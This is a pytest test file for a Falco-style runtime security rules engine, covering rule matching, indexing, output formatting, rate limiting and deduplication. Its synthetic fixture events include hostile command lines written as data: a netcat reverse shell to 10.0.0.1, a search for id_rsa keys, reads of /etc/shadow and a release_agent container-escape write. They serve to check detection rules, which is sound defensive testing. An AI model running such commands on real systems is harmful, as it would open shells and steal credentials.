"""The rules engine: compilation, disabled rules, indexing, matching, rendering, noise control."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from falco_data import STABLE_RULES
from kubeward.runtime.engine import Engine, OutputFormat, OutputFormatError, parse_priority
from kubeward.runtime.fields.base import FieldSpec, Getter, MappedFieldRegistry
from kubeward.runtime.rules import Ruleset, load_rules_files

SEC = 1_000_000_000


def _key(key: str) -> Any:
    def factory(_arg: str | None) -> Getter:
        return lambda ev: ev.get(key) if isinstance(ev, dict) else None

    return factory


def _ancestor(arg: str | None) -> Getter:
    index = int(arg or 0)
    return lambda ev: (ev.get("ancestors") or [None] * (index + 1))[index] if index else None


def _exploding(_arg: str | None) -> Getter:
    def getter(ev: object) -> object:
        raise RuntimeError("getter bug")

    return getter


def registry(source: str = "syscall") -> MappedFieldRegistry:
    return MappedFieldRegistry(
        source,
        [
            FieldSpec("evt.type", "string", _key("type")),
            FieldSpec("evt.rawtime", "int", _key("time")),
            FieldSpec("proc.name", "string", _key("name")),
            FieldSpec("proc.pid", "int", _key("pid")),
            FieldSpec("proc.args", "list", _key("args")),
            FieldSpec("proc.aname", "string", _ancestor, "index"),
            FieldSpec("fd.name", "string", _key("file")),
            FieldSpec("fd.namex", "string", _key("filex")),
            FieldSpec("evt.boom", "string", _exploding),
        ],
    )


def rules(tmp_path: Path, text: str) -> Ruleset:
    path = tmp_path / "rules.yaml"
    path.write_text(text)
    ruleset = load_rules_files([path])
    assert ruleset.errors == []
    return ruleset


def rule(
    name: str,
    condition: str,
    *,
    output: str = "%proc.name",
    priority: str = "WARNING",
    source: str = "syscall",
    extra: str = "",
) -> str:
    return (
        f"- rule: {name}\n  desc: d\n  condition: {condition}\n  output: '{output}'\n"
        f"  priority: {priority}\n  source: {source}\n{extra}"
    )


def ev(etype: str = "open", name: str = "cat", time: int = 5 * SEC, **more: Any) -> dict[str, Any]:
    return {"type": etype, "name": name, "time": time, **more}


def engine_for(tmp_path: Path, text: str, **kwargs: Any) -> Engine:
    times = {"syscall": lambda e: e.get("time") if isinstance(e, dict) else None}
    return Engine(
        rules(tmp_path, text),
        {"syscall": registry()},
        hostname="node-1",
        event_time=times,
        **kwargs,
    )


def test_priorities() -> None:
    assert [parse_priority(p) for p in ("EMERGENCY", "warning", "Info", "informational")] == [
        0,
        4,
        6,
        6,
    ]
    with pytest.raises(ValueError, match="unknown priority 'loud'"):
        parse_priority("loud")


def test_first_match_wins_in_load_order(tmp_path: Path) -> None:
    text = (
        rule("untyped", "proc.name = cat", output="untyped %proc.name")
        + rule("typed", "evt.type = open and proc.name = cat", output="typed %proc.name")
        + rule("other", "evt.type = execve", output="other")
    )
    engine = engine_for(tmp_path, text)
    alerts = engine.process("syscall", ev())
    assert [(a.rule, a.output) for a in alerts] == [("untyped", "untyped cat")]
    everything = engine_for(tmp_path, text, match_all=True)
    assert [a.rule for a in everything.process("syscall", ev())] == ["untyped", "typed"]


def test_index_tests_only_rules_that_can_match(tmp_path: Path) -> None:
    # proc.pid is an int field: the index dispatches on evt.type only here.
    text = (
        rule("open rule", "evt.type in (open, openat) and proc.pid = 0")
        + rule("exec rule", "evt.type = execve and proc.pid = 0")
        + rule("any type", "proc.pid = 0")
        + rule("macro typed", "is_connect and proc.pid = 0")
        + "- macro: is_connect\n  condition: evt.type = connect\n"
        + rule("never", "evt.type = open and evt.type = execve")
    )
    engine = engine_for(tmp_path, text, stats=True)
    for etype in ("open", "openat", "execve", "connect", "close"):
        engine.process("syscall", ev(etype))
    evaluations = {r.rule: r.evaluations for r in engine.stats().rules}
    assert evaluations == {
        "open rule": 2,
        "exec rule": 1,
        "any type": 5,
        "macro typed": 1,
        "never": 0,
    }


def test_index_dispatches_on_other_required_string_fields(tmp_path: Path) -> None:
    text = (
        rule("cat opens", "evt.type = open and proc.name = cat")
        + rule("dog opens", "evt.type = open and (proc.name = dog or proc.name in (wolf))")
        + rule("shells", "evt.type = open and proc.name in (sh, bash) and fd.name exists")
        + rule("anyone", "evt.type = open and fd.name = /etc/shadow")
    )
    engine = engine_for(tmp_path, text, stats=True, match_all=True)
    fired = [
        [a.rule for a in engine.process("syscall", ev(name=name, file=file))]
        for name, file in [
            ("cat", "/etc/shadow"),
            ("ls", "/etc/shadow"),
            ("wolf", "/tmp/x"),
            ("bash", "/tmp/x"),
            ("ls", "/tmp/x"),
        ]
    ]
    assert fired == [["cat opens", "anyone"], ["anyone"], ["dog opens"], ["shells"], []]
    # proc.name picks the candidates: a rule for other names is never tried.
    evaluations = {r.rule: r.evaluations for r in engine.stats().rules}
    assert evaluations == {"cat opens": 1, "dog opens": 1, "shells": 1, "anyone": 5}


def test_index_getter_failure_leaves_the_decision_to_the_conditions(tmp_path: Path) -> None:
    text = (
        rule("boom a", "evt.boom = a and proc.name = cat")
        + rule("boom b", "evt.boom in (b, c)")
        + rule("fine", "proc.name = cat")
    )
    for match_all in (True, False):  # every match (the walk), the first (compiled calls)
        engine = engine_for(tmp_path, text, match_all=match_all)
        assert [a.rule for a in engine.process("syscall", ev())] == ["fine"]
        errors = {r.rule: r.errors for r in engine.stats().rules}
        assert errors == {"boom a": 1, "boom b": 1, "fine": 0}


def test_known_values_are_decided_without_changing_answers(tmp_path: Path) -> None:
    """Below ``evt.type = open`` and ``proc.name = X`` the index compiles each rule with
    those comparisons decided; every answer must equal the rule's own condition's."""
    conditions = [
        "evt.type in (open, openat) and proc.name != cat and fd.name startswith /etc",
        "evt.type = open and not proc.name in (cat, dog) and fd.name exists",
        "(evt.type = open or evt.type = execve) and (proc.name = cat or fd.name = /x)",
        "evt.type = open and proc.name in (cat, sh) and proc.name startswith c",
        "evt.type = open and proc.name in (cat, sh) and not proc.name endswith h",
        "evt.type = open and proc.name in (cat, sh) and proc.name contains a",
        "evt.type = open and proc.name = sh and (proc.name exists or fd.name = /never)",
        "evt.type = open and proc.name = sh and not (evt.type = execve)",
        "evt.type = execve and proc.name in (cat, dog, sh) and fd.namex = val(fd.name)",
        "evt.type = open and proc.aname[1] = sh and proc.name in (cat, sh)",
        # The and chain runs positive terms first: a failing getter still means no match.
        "not evt.boom = x and proc.name = cat and evt.type = open",
        "(evt.boom = x or proc.name = cat) and fd.name exists",
        "not (proc.name = cat and evt.boom = x) and fd.name exists",
        "not (evt.boom = x and proc.name = dog) and fd.name exists",  # fails before false
    ]
    text = "".join(rule(f"r{i}", c) for i, c in enumerate(conditions))
    engine = engine_for(tmp_path, text, match_all=True, stats=True)
    compiled = {r.name: r.condition for r in engine._compiled}
    for etype in ("open", "openat", "execve", "close"):
        for name in ("cat", "dog", "sh", "ls"):
            for file in ("/etc/passwd", "/x", "/tmp/y", None):
                event = ev(etype, name, file=file, filex=file, ancestors=["x", "sh"])
                expected = [n for n, check in compiled.items() if _holds(check, event)]
                assert [a.rule for a in engine.process("syscall", event)] == expected, event
    # Rules are tried only under their event types, and not at all where the known values
    # make them false: r0 and r1 not for cat (proc.name != cat, not proc.name in (cat, dog)).
    evaluations = {r.rule: r.evaluations for r in engine.stats().rules}
    assert evaluations == {
        "r0": 28,
        "r1": 12,
        "r2": 32,
        "r3": 4,
        "r4": 4,
        "r5": 4,
        "r6": 4,
        "r7": 4,
        "r8": 16,
        "r9": 8,
        "r10": 4,
        "r11": 64,
        "r12": 64,
        "r13": 64,
    }


def test_other_values_decide_memberships_false() -> None:
    """Below "any other value" of an index step the field holds none of the values the
    rules named (or is absent): a membership in some of them is false; a test an absent
    value fails (``!=``, ``exists``) or one on other values is left to run."""
    from kubeward.runtime.condition import parse_condition
    from kubeward.runtime.engine import _decide

    other = {("proc.name", None): frozenset({"sh", "bash", "cat"})}
    cases = {
        "proc.name in (sh, bash) or fd.name = /x": "fd.name = /x",
        "proc.name = cat and fd.name = /x": False,
        "not proc.name in (sh, cat) and fd.name = /x": "fd.name = /x",
        "proc.name in (sh, zsh) or fd.name = /x": "proc.name in (sh, zsh) or fd.name = /x",
        "proc.name != cat and fd.name = /x": "proc.name != cat and fd.name = /x",
        "proc.name exists": "proc.name exists",
        "proc.name startswith s": "proc.name startswith s",
        "fd.name = /x or proc.name = sh": "fd.name = /x",
    }
    for text, expected in cases.items():
        want = expected if isinstance(expected, bool) else parse_condition(expected)
        assert _decide(parse_condition(text), other) == want, text


def _holds(check: Any, event: object) -> bool:
    try:
        return bool(check(event))
    except Exception:  # the engine counts an error and reports no match
        return False


def test_unknown_field_disables_rule_with_one_warning(tmp_path: Path) -> None:
    text = (
        rule("uses unknown", "proc.nosuch = x and proc.nosuch = y")
        + rule("skips quietly", "proc.nosuch = x", extra="  skip-if-unknown-filter: true\n")
        + rule("unknown in output", "proc.name = cat", output="%proc.nosuch")
        + rule("fine", "proc.name = cat")
    )
    engine = engine_for(tmp_path, text)
    assert [(w.code, w.item_name, w.message) for w in engine.warnings] == [
        (
            "LOAD_UNKNOWN_FILTER",
            "uses unknown",
            "filter_check called with nonexistent field proc.nosuch",
        ),
        (
            "LOAD_UNKNOWN_FILTER",
            "unknown in output",
            "invalid output format: invalid formatting token proc.nosuch",
        ),
    ]
    assert engine.errors == []
    assert engine.rule_status == {
        "uses unknown": "disabled: filter_check called with nonexistent field proc.nosuch",
        "skips quietly": "disabled: filter_check called with nonexistent field proc.nosuch",
        "unknown in output": "disabled: invalid output format: invalid formatting token "
        "proc.nosuch",
        "fine": "enabled",
    }
    assert [a.rule for a in engine.process("syscall", ev())] == ["fine"]


def test_rules_of_a_source_without_fields_are_skipped_with_one_warning(tmp_path: Path) -> None:
    text = (
        rule("audit 1", "ka.verb = create", output="x", source="k8s_audit")
        + rule("audit 2", "ka.verb = delete", output="x", source="k8s_audit")
        + rule("syscall", "proc.name = cat")
    )
    engine = engine_for(tmp_path, text)
    assert [(w.code, w.message) for w in engine.warnings] == [
        (
            "LOAD_UNKNOWN_SOURCE",
            "2 rule(s) of source k8s_audit skipped: no event fields for source k8s_audit",
        )
    ]
    assert engine.rule_status["audit 1"] == "no fields for source k8s_audit"
    assert engine.sources == frozenset({"syscall"})
    assert engine.process("k8s_audit", {"verb": "create"}) == []
    assert engine.stats().unknown_source == 1
    assert [a.rule for a in engine.process("syscall", ev(name="cat"))] == ["syscall"]
    assert engine.process("syscall", ev(name="dog")) == []
    assert engine.process("syscall", "not an event") == []
    stats = engine.stats()
    assert (stats.events, stats.unknown_source, stats.alerts) == (4, 1, 1)


def test_disabled_and_low_priority_rules_do_not_run(tmp_path: Path) -> None:
    text = (
        rule("off", "proc.name = cat", extra="  enabled: false\n")
        + rule("debug", "proc.name = cat", priority="DEBUG")
        + rule("notice", "proc.name = cat", priority="NOTICE")
    )
    engine = engine_for(tmp_path, text, min_priority="notice", match_all=True)
    assert engine.rule_status == {
        "off": "disabled in rules",
        "debug": "below minimum priority",
        "notice": "enabled",
    }
    assert [(a.rule, a.priority) for a in engine.process("syscall", ev())] == [("notice", "Notice")]


def test_condition_errors_are_compile_errors(tmp_path: Path) -> None:
    text = rule("bad op", "proc.args contains x") + rule("fine", "proc.name = cat")
    engine = engine_for(tmp_path, text)
    assert [(e.code, e.item_name, e.message) for e in engine.errors] == [
        (
            "LOAD_ERR_COMPILE_CONDITION",
            "bad op",
            "filter error: 'contains' operator not supported list filters",
        )
    ]
    assert [a.rule for a in engine.process("syscall", ev())] == ["fine"]


def test_a_failing_condition_is_counted_not_raised(tmp_path: Path) -> None:
    text = rule("explodes", "evt.boom = x") + rule("fine", "proc.name = cat")
    engine = engine_for(tmp_path, text)
    assert [a.rule for a in engine.process("syscall", ev())] == ["fine"]
    assert {r.rule: r.errors for r in engine.stats().rules} == {"explodes": 1, "fine": 0}


def test_alert_shape(tmp_path: Path) -> None:
    text = rule(
        "Shell",
        "proc.name = cat",
        output="%proc.name ran %proc.args by %proc.aname[2] on %fd.name pid=%proc.pid",
        extra="  tags: [b, a, b]\n",
    )
    engine = engine_for(tmp_path, text)
    event = ev(args=["-n", "x"], ancestors=["sh", "bash", "sshd"], pid=42)
    (alert,) = engine.process("syscall", event)
    assert alert.rule == "Shell"
    assert alert.priority == "Warning"
    assert alert.time == 5 * SEC
    assert alert.source == "syscall"
    assert alert.tags == ("a", "b")  # a set in Falco: sorted, unique
    assert alert.hostname == "node-1"
    assert alert.output == "cat ran (-n,x) by sshd on <NA> pid=42"
    assert alert.output_fields == {
        "proc.name": "cat",
        "proc.args": ["-n", "x"],
        "proc.aname[2]": "sshd",
        "fd.name": None,
        "proc.pid": 42,
    }


def test_output_tokens_follow_libsinsp() -> None:
    reg = registry()
    event = ev(file="/etc/shadow", filex="X", args=[])
    assert OutputFormat("%fd.name.%fd.namex|", reg).render(event) == (
        "/etc/shadow.X|",
        {"fd.name": "/etc/shadow", "fd.namex": "X"},
    )
    assert OutputFormat("*[%5proc.name][%2fd.name]", reg).render(event)[0] == "[cat  ][/e]"
    assert OutputFormat("args=%proc.args", reg).render(event)[0] == "args=<NA>"
    with pytest.raises(OutputFormatError, match="cannot end with a %"):
        OutputFormat("oops %", reg)
    with pytest.raises(OutputFormatError, match="empty formatting token"):
        OutputFormat("", reg)
    with pytest.raises(OutputFormatError, match=r"^invalid formatting token nosuch\.field$"):
        OutputFormat("%nosuch.field", reg)
    with pytest.raises(OutputFormatError, match=r"^field 'proc\.name' does not accept an arg"):
        OutputFormat("%proc.name[1]", reg)
    assert OutputFormat("*", reg).render(event) == ("", {})  # as libsinsp: nothing to print


def test_rate_limit_is_a_token_bucket_per_rule(tmp_path: Path) -> None:
    text = rule("limited", "proc.name = cat", output="%proc.pid")
    engine = engine_for(tmp_path, text, rate=1.0, max_burst=2)
    times = [0, 0, 0, SEC // 2, SEC, 3 * SEC, 3 * SEC, 3 * SEC]
    emitted = [len(engine.process("syscall", ev(time=t, pid=i))) for i, t in enumerate(times)]
    # Full bucket of 2, empty at t=0; half a token at 0.5 s; one at 1 s; refilled to 2 by 3 s.
    assert emitted == [1, 1, 0, 0, 1, 1, 1, 0]
    stats = engine.stats()
    assert (stats.alerts, stats.rate_limited) == (5, 3)
    assert [(r.matches, r.rate_limited) for r in stats.rules] == [(8, 3)]


def test_dedup_suppresses_identical_alerts_within_the_window(tmp_path: Path) -> None:
    text = rule("dup", "proc.name exists", output="%proc.name")
    engine = engine_for(tmp_path, text, dedup_window=10.0)
    seen = [
        [a.output for a in engine.process("syscall", ev(name=n, time=t * SEC))]
        for n, t in [("cat", 0), ("cat", 5), ("ls", 6), ("cat", 9), ("cat", 10), ("cat", 15)]
    ]
    assert seen == [["cat"], [], ["ls"], [], ["cat"], []]
    assert engine.stats().deduplicated == 3


def test_stats_and_counters(tmp_path: Path) -> None:
    text = rule("r", "proc.name = cat")
    timed = engine_for(tmp_path, text, stats=True)
    plain = engine_for(tmp_path, text)
    for engine in (timed, plain):
        for name in ("cat", "ls", "cat"):
            engine.process("syscall", ev(name=name))
        engine.note_dropped(4)
    t, p = timed.stats(), plain.stats()
    assert (t.events, t.dropped, t.alerts, t.rules_loaded, t.rules_enabled) == (3, 4, 2, 1, 1)
    assert (p.events, p.dropped, p.alerts) == (3, 4, 2)
    (tr,) = t.rules
    (pr,) = p.rules
    assert (tr.matches, tr.evaluations) == (2, 3)
    assert tr.time_ns > 0
    assert (pr.matches, pr.evaluations, pr.time_ns) == (2, 0, 0)


def test_event_time_and_late_events(tmp_path: Path) -> None:
    text = rule("r", "proc.name = cat")
    engine = engine_for(tmp_path, text, late_after=60.0)
    import time

    now = time.time_ns()
    engine.process("syscall", ev(name="ls", time=now - 120 * SEC))
    engine.process("syscall", ev(name="ls", time=now))
    (alert,) = engine.process("syscall", ev(time=now - 5 * SEC))
    assert alert.time == now - 5 * SEC
    (explicit,) = engine.process("syscall", ev(), time_ns=7)
    assert explicit.time == 7
    assert engine.stats().late == 2  # the 120 s old one, and the one stamped 7 ns
    untimed = Engine(rules(tmp_path, text), {"syscall": registry()}, hostname="h")
    before = time.time_ns()
    (wall,) = untimed.process("syscall", ev())
    assert before <= wall.time <= time.time_ns()


def test_packaged_syscall_rules() -> None:
    from kubeward.cli.runtime import default_rules_files
    from kubeward.runtime.fields.syscall import SyscallFields

    engine = Engine(
        load_rules_files(default_rules_files()),
        {"syscall": SyscallFields()},
        hostname="h",
        match_all=True,
    )
    assert engine.errors == []
    base = {"evt.dir": "<", "container.id": "0123456789ab", "user.name": "root"}

    def fired(**event: Any) -> list[str]:
        alerts = engine.process("syscall", {**base, **event})
        return [a.rule for a in alerts]

    shell = {"evt.type": "execve", "proc.name": "bash"}
    assert fired(**shell, **{"proc.tty": 34816}) == ["Interactive shell in a container"]
    assert fired(**shell, **{"proc.tty": 0}) == []
    assert fired(**shell, **{"proc.tty": 34816, "container.id": "host"}) == []
    shadow = {"evt.type": "openat", "fd.name": "/etc/shadow", "evt.is_open_read": True}
    assert fired(**shadow, **{"proc.name": "cat"}) == ["Password database read"]
    assert fired(**shadow, **{"proc.name": "sshd"}) == []
    assert fired(**{"evt.type": "execve", "proc.name": "apk"}) == [
        "Package manager run in a container"
    ]
    assert fired(**{"evt.type": "execve", "proc.name": "x", "proc.exepath": "/dev/shm/x"}) == [
        "Program run from a temporary directory in a container"
    ]
    assert fired(**{"evt.type": "connect", "fd.name": "/run/containerd/containerd.sock"}) == [
        "Container runtime socket used in a container"
    ]
    assert fired(**{"evt.type": "execve", "proc.name": "ls"}) == []


def _syscall_events() -> list[dict[str, Any]]:
    """Events crossing the values Falco's stable rules index and decide on."""
    events = []
    processes = [
        ("bash", "/bin/bash", "", ["runc", "containerd-shim", "systemd"], 34816),
        ("sh", "/bin/sh", "-c date", ["nginx", "containerd-shim"], 0),
        ("find", "/usr/bin/find", "/ -name id_rsa", ["sh", "sshd"], 0),
        ("nc", "/usr/bin/nc", "-e /bin/sh 10.0.0.1 4444", ["sh"], 0),
        ("shred", "/usr/bin/shred", "-u x", ["sshd"], 0),
        ("cat", "/bin/cat", "/etc/shadow", ["sh"], 0),
        ("nginx", "/usr/sbin/nginx", "-g daemon off;", ["containerd-shim"], 0),
        ("kworker", "/dev/shm/kworker", "", ["sh"], 0),
    ]
    files = [("/etc/shadow", False), ("/var/log/syslog", True), ("/tmp/a/release_agent", True)]
    files += [("/etc/pam.d/../../etc/passwd", False), ("/usr/lib/libc.so.6", False)]
    for name, exe, args, ancestors, tty in processes:
        for container in ("host", "0123456789ab"):
            proc = {
                "proc.name": name,
                "proc.exe": exe,
                "proc.exepath": exe,
                "proc.args": args,
                "proc.cmdline": f"{name} {args}".strip(),
                "proc.aname": ancestors,
                "proc.pname": ancestors[0],
                "proc.tty": tty,
                "proc.pid.ts": 1,
                "container.id": container,
                "container.privileged": True,
                "user.name": "root",
                "user.uid": 0,
                "thread.cap_effective": "CAP_SYS_ADMIN CAP_DAC_OVERRIDE",
                "evt.time": 10**18,
                "evt.dir": "<",
                "evt.rawres": 0,
                "evt.res": "SUCCESS",
            }
            events.append({**proc, "evt.type": "execve", "evt.arg.flags": "EXE_WRITABLE"})
            for path, write in files:
                events.append(
                    {
                        **proc,
                        "evt.type": "openat",
                        "evt.is_open_read": not write,
                        "evt.is_open_write": write,
                        "evt.arg.flags": "O_WRONLY|O_TRUNC" if write else "O_RDONLY",
                        "fd.typechar": "f",
                        "fd.num": 3,
                        "fd.name": path.replace("/etc/pam.d/../../etc", "/etc"),
                        "fd.nameraw": path,
                        "fd.directory": path.rsplit("/", 1)[0],
                        "fd.filename": path.rsplit("/", 1)[1],
                    }
                )
            events.append(
                {
                    **proc,
                    "evt.type": "connect",
                    "fd.typechar": "4",
                    "fd.l4proto": "tcp",
                    "fd.sip": "10.96.0.1",
                    "fd.sip.name": "kubernetes.default.svc.cluster.local",
                    "fd.sport": 2222,
                }
            )
    return events


def test_falco_stable_rules_answer_as_their_conditions() -> None:
    from kubeward.runtime.fields.syscall import SyscallFields

    ruleset = load_rules_files([STABLE_RULES])
    engine = Engine(ruleset, {"syscall": SyscallFields()}, hostname="h", match_all=True)
    conditions = {r.name: r.condition for r in engine._compiled}
    fired: set[str] = set()
    for event in _syscall_events():
        expected = [name for name, check in conditions.items() if _holds(check, event)]
        got = [a.rule for a in engine.process("syscall", event)]
        assert got == expected, event
        fired.update(got)
    # The events reach the rules the index and the decided comparisons touch most.
    assert {
        "Terminal shell in container",
        "Read sensitive file untrusted",
        "Search Private Keys or Passwords",
        "Remove Bulk Data from Disk",
        "Directory traversal monitored file read",
        "Detect release_agent File Container Escapes",
        "Netcat Remote Code Execution in Container",
        "Run shell untrusted",
    } <= fired


def test_fused_candidates_answer_the_first_condition_that_holds() -> None:
    """First-match mode runs each place of the index as one fused function: its answer is
    the first rule, in load order, whose own condition holds (none when none does)."""
    from kubeward.runtime.fields.syscall import SyscallFields

    ruleset = load_rules_files([STABLE_RULES])
    engine = Engine(ruleset, {"syscall": SyscallFields()}, hostname="h")
    conditions = {r.name: r.condition for r in engine._compiled}
    answered = 0
    for event in _syscall_events():
        expected = [name for name, check in conditions.items() if _holds(check, event)][:1]
        assert [a.rule for a in engine.process("syscall", event)] == expected, event
        answered += bool(expected)
    assert answered > 10
    fused = [leaf for leaf in engine._index_leaves("syscall") if leaf and leaf.first is not None]
    assert fused  # the fused path is the one that answered


def test_a_step_with_one_branch_folded_into_its_leaf_answers_the_same() -> None:
    """``fd.typechar = f`` below ``evt.type = openat`` is tested inside the leaf's function:
    another type, no type, or an event that is not a mapping answers as the walk does."""
    from kubeward.runtime.fields.syscall import SyscallFields

    ruleset = load_rules_files([STABLE_RULES])
    first = Engine(ruleset, {"syscall": SyscallFields()}, hostname="h")
    walk = Engine(ruleset, {"syscall": SyscallFields()}, hostname="h", stats=True)
    opens = [e for e in _syscall_events() if e.get("evt.type") == "openat"]
    assert any(first.process("syscall", e) for e in opens)
    for event in opens:
        for typechar in ("f", "4", None):
            changed = dict(event)
            if typechar is None:
                changed.pop("fd.typechar", None)
            else:
                changed["fd.typechar"] = typechar
            got = [a.rule for a in first.process("syscall", changed)]
            assert got == [a.rule for a in walk.process("syscall", changed)][:1], changed
            if typechar != "f":
                assert got == []
    assert first.process("syscall", ["not", "a", "mapping"]) == []
